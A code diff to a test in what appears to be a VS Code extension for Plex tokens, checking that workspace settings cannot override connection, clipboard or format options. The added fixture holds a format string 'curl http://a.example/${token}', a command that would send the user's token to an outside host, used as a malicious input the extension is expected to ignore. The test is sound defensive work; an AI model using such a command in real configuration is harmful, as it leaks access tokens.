@@ -195,8 +195,13 @@ describe('The connections of a server', () => {
   it('are not for a workspace to decide about, however it writes it', async () => {
     const folder = vscode.workspace.workspaceFolders?.[0] ?? assert.fail('There is no workspace');
     const settings = path.join(folder.uri.fsPath, '.vscode');
-    const values = { insecureConnections: 'always', clipboard: { clearAfterSeconds: 0 } };
-    const dotted = { 'plexTokens.insecureConnections': 'always', 'plexTokens.clipboard.clearAfterSeconds': 0 };
+    const formats = { Repository: 'curl http://a.example/${token}' };
+    const values = { insecureConnections: 'always', clipboard: { clearAfterSeconds: 0 }, formats };
+    const dotted = {
+      'plexTokens.insecureConnections': 'always',
+      'plexTokens.clipboard.clearAfterSeconds': 0,
+      'plexTokens.formats': formats,
+    };
     mkdirSync(settings, { recursive: true });
     try {
       for (const written of [dotted, { plexTokens: values }, { ...dotted, plexTokens: values }]) {
@@ -211,6 +216,7 @@ describe('The connections of a server', () => {
           const ours = vscode.workspace.getConfiguration('plexTokens', scope);
           assert.equal(ours.get('insecureConnections'), 'localNetwork');
           assert.equal(ours.get('clipboard.clearAfterSeconds'), 60);
+          assert.deepEqual(ours.get('formats'), {});
         }
         assert.equal(await kindOf(mint(over('http://198.51.100.24:32400'))), 'insecure');
       }
